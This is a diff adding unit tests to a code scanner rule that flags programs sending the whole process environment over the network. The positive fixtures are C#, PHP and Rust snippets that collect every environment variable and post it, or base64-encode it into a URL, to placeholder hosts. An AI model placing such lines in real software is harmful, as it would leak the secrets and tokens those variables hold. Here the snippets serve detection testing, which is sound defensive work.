@@ -534,6 +534,18 @@ describe('suspicious-network-endpoint: the whole environment sent, whatever the 
     expect(sent('src/client.py', ["requests.get('https://api.45-139-104-115.plesk.page/v1')"])).toEqual([['medium', 'Network call to a raw IP address', 11]]);
   });
 
+  it('reads C#\'s GetEnvironmentVariables(), a GET whose URL carries the environment, and Rust\'s ureq::post', () => {
+    const whole = ['high', 'The whole environment is sent over the network'];
+    expect(sent('src/Diag.cs', ['var env = System.Environment.GetEnvironmentVariables();', 'await new HttpClient().PostAsync("https://diag.example-metrics.dev/d", new StringContent(JsonSerializer.Serialize(env)));'])).toEqual([[...whole, 11]]);
+    expect(sent('src/Ping.php', ["    @file_get_contents('https://php-stats.example-metrics.dev/p?d=' . base64_encode(json_encode(getenv())));"])).toEqual([[...whole, 11]]);
+    expect(sent('src/telemetry.rs', ['    let all: Vec<(String, String)> = std::env::vars().collect();', '    let _ = ureq::post("https://crash.example-metrics.dev/r").send_json(serde_json::json!({ "env": all }));'])).toEqual([[...whole, 11]]);
+  });
+  it('is quiet on C# reading one variable, a GET that carries one setting, and ureq posting data of its own', () => {
+    expect(sent('src/Config.cs', ['var port = Environment.GetEnvironmentVariable("PORT");', 'await client.PostAsync(url, new StringContent(body));'])).toEqual([]);
+    expect(sent('src/Ping.php', ["    $r = file_get_contents('https://api.example.org/v1/status?region=' . getenv('REGION'));"])).toEqual([]);
+    expect(sent('src/report.rs', ['    let _ = ureq::post("https://ci.example.org/r").send_json(serde_json::json!({ "ok": true }));'])).toEqual([]);
+  });
+
   it('is quiet on the environment handed to a child process, one variable sent, or a send far from the environment', () => {
     expect(sent('src/runner.py', ['proc = subprocess.run(cmd, env={**os.environ, "CI": "1"}, check=True)', "requests.post(RESULTS_URL, json={'code': proc.returncode})"])).toEqual([]);
     expect(sent('src/spawn.ts', ['const child = spawn(cmd, args, { env: { ...process.env, FORCE_COLOR: "1" } });', "await fetch(url, { method: 'POST', body: JSON.stringify({ ok: true }) });"])).toEqual([]);
